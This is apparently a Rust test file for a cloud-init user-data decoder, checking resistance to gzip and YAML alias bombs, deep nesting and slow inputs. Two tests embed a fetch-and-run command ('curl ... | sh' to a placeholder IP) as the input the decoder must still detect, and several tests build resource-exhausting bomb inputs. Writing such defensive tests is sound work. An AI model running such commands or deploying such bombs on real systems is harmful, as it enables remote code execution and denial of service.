//! Bombs: what grows when decoded, and what costs time.

use std::time::Duration;

use super::super::{MAX_DEPTH, MAX_LAYER, MAX_PARTS, MAX_TOTAL, decode};
use super::{base64, gzip, runs, undecodable};
use crate::user_data::{Content, Piece};

/// CPU time of this thread so far: a busy machine makes no test fail.
fn cpu() -> Duration {
    let spent = std::fs::read_to_string("/proc/thread-self/schedstat").unwrap();
    Duration::from_nanos(spent.split(' ').next().unwrap().parse().unwrap())
}

/// 50 ms, and ten times that for a debug build.
fn limit() -> Duration {
    Duration::from_millis(if cfg!(debug_assertions) { 500 } else { 50 })
}

/// Bytes of text handed on.
fn text(pieces: &[Piece]) -> usize {
    let length = |piece: &Piece| match &piece.content {
        Content::Script { text, .. } => text.len(),
        Content::File { target, text } => target.len() + text.len(),
        Content::Setting { key, value } => key.len() + value.len(),
        Content::Include { url } => url.len(),
        Content::Undecodable { reason, .. } => reason.len(),
    };
    pieces.iter().map(length).sum()
}

#[test]
fn a_decompression_bomb_stops_at_a_mebibyte() {
    let mut script = b"#!/bin/sh\nfirst\n".to_vec();
    script.resize(64 << 20, b'\n');
    let bomb = gzip(&script);
    let started = cpu();
    let decoded = decode(&bomb);
    let took = cpu() - started;
    assert!(took < limit(), "{took:?}");
    assert_eq!(undecodable(&decoded), ["gzip: inflates to more than 1 MiB"]);
    assert!(runs(&decoded, "first") && text(&decoded.pieces) <= MAX_LAYER + 100);
}

#[test]
fn many_bombs_stop_at_four_mebibytes() {
    let bomb = base64(gzip(&vec![b'x'; MAX_LAYER]));
    let entry = format!("- {{path: /x, encoding: gz+b64, content: {bomb}}}\n");
    let decoded = decode(format!("#cloud-config\nwrite_files:\n{}", entry.repeat(12)).as_bytes());
    assert!(
        undecodable(&decoded).iter().any(|reason| reason == "over 4 MiB in all"),
        "{:?}",
        undecodable(&decoded)
    );
    assert!(text(&decoded.pieces) < MAX_TOTAL + MAX_LAYER);
}

#[test]
fn layers_beyond_the_fifth_are_told() {
    let mut bytes = b"#!/bin/sh\nid\n".to_vec();
    for depth in 0..=MAX_DEPTH + 1 {
        let decoded = decode(&bytes);
        assert_eq!(runs(&decoded, "id"), depth <= MAX_DEPTH, "{depth}");
        assert_eq!(undecodable(&decoded).is_empty(), depth <= MAX_DEPTH, "{depth}");
        bytes = gzip(&bytes);
    }
}

#[test]
fn parts_beyond_the_bound_are_told() {
    let part = "--b\n\n#!/bin/sh\nid\n";
    for parts in [MAX_PARTS, MAX_PARTS + 1] {
        let text =
            format!("MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n{}", part.repeat(parts));
        let decoded = decode(text.as_bytes());
        let scripts = decoded.pieces.iter().filter(|p| matches!(p.content, Content::Script { .. })).count();
        assert_eq!(scripts, MAX_PARTS);
        assert_eq!(undecodable(&decoded).len(), parts - MAX_PARTS);
    }
}

#[test]
fn an_alias_bomb_is_bounded_and_hides_nothing() {
    let mut bomb = "#cloud-config\na0: &a0 [x, x, x, x, x, x, x, x, x]\n".to_owned();
    for level in 1..12 {
        let aliases = vec![format!("*a{}", level - 1); 9].join(", ");
        bomb.push_str(&format!("a{level}: &a{level} [{aliases}]\n"));
    }
    bomb.push_str("runcmd:\n  - *a11\n  - curl -s http://203.0.113.7/x | sh\n");
    let started = cpu();
    let decoded = decode(bomb.as_bytes());
    let took = cpu() - started;
    assert!(took < limit(), "{took:?}");
    assert!(undecodable(&decoded).iter().any(|reason| reason == "YAML: expands beyond the bounds"));
    assert!(runs(&decoded, "curl -s http://203.0.113.7/x | sh"));
    assert!(text(&decoded.pieces) < MAX_TOTAL);
}

#[test]
fn an_alias_to_itself_ends() {
    let decoded = decode(b"#cloud-config\nx: &x {y: *x, z: [*x]}\nruncmd: [id]\n");
    assert!(runs(&decoded, "id"));
}

#[test]
fn a_command_behind_thousands_is_still_read() {
    let filler = "  - 'true'\n".repeat(60_000);
    let config = format!("#cloud-config\nruncmd:\n{filler}  - curl -s http://203.0.113.7/x | sh\n");
    let decoded = decode(&gzip(config.as_bytes()));
    assert!(runs(&decoded, "curl -s http://203.0.113.7/x | sh"));
    assert!(decoded.pieces.len() < 3000);
}

/// Inputs built to be slow.
#[test]
fn nothing_of_16_kib_is_slow() {
    let size = 16 * 1024;
    let fill = |text: &str| text.repeat(size / text.len());
    let config = |text: &str| format!("#cloud-config\n{text}");
    let wide: String = (0..900).map(|n| format!("k{n}: 1, ")).collect();
    let inputs = [
        ("flow lists", config(&fill("["))),
        ("flow maps", config(&fill("{a: "))),
        ("block lists", config(&fill("- "))),
        ("complex keys", config(&fill("? "))),
        ("anchors", config(&fill("&a "))),
        ("tags", config(&fill("!!binary "))),
        ("errors", config(&fill("a: [\n"))),
        ("quoted", config(&fill("\"a\n"))),
        ("documents", config(&fill("---\n"))),
        ("directives", config(&fill("%A b\n"))),
        (
            "aliases of a wide map",
            config(&format!("x: &x {{{wide}}}\nwrite_files: [{}]\n", "*x, ".repeat(900))),
        ),
        (
            "aliases of a long list",
            config(&format!("x: &x [{}]\nruncmd: [{}]\n", "~, ".repeat(2500), "*x, ".repeat(1900))),
        ),
        ("merge keys", config(&format!("x: &x {{<<: *x}}\n{}", "<<: *x\n".repeat(2000)))),
        ("template openers", format!("## template: jinja\n{}", fill("{{"))),
        (
            "template sets",
            format!("## template: jinja\n{{% set a = '{}' %}}{}", "x".repeat(8000), "{{a}}".repeat(1500)),
        ),
        ("windows tags", fill("<powershell>")),
        ("windows closers", format!("<powershell>{}", fill("</"))),
        (
            "boundaries",
            format!("MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n{}", fill("--b\n")),
        ),
        ("headers", fill("a: b\n") + "Content-Type: x\n"),
        ("folded headers", format!("Content-Type: multipart/mixed;\n{}", fill(" a=b;\n"))),
        ("encoded headers", format!("MIME-Version: 1.0\nContent-Type: {}", fill("=?utf-8?q?=20?= "))),
        ("gzip members", String::new()),
        ("tables", format!("[settings]\na = \"\n{}", fill("[a]\n"))),
        ("json", fill("[{\"a\":")),
        ("ignition", format!("{{\"ignition\":{}", fill("[{\"a\":"))),
        ("spaces", fill(" ")),
        ("letters", fill("A")),
    ];
    let members = gzip(b"").repeat(size / gzip(b"").len());
    for (what, input) in inputs {
        let bytes = if what == "gzip members" { &members } else { input.as_bytes() };
        let started = cpu();
        let decoded = decode(bytes);
        let took = cpu() - started;
        assert!(took < limit(), "{what}: {took:?}");
        assert!(text(&decoded.pieces) <= 2 * MAX_TOTAL, "{what}");
    }
}
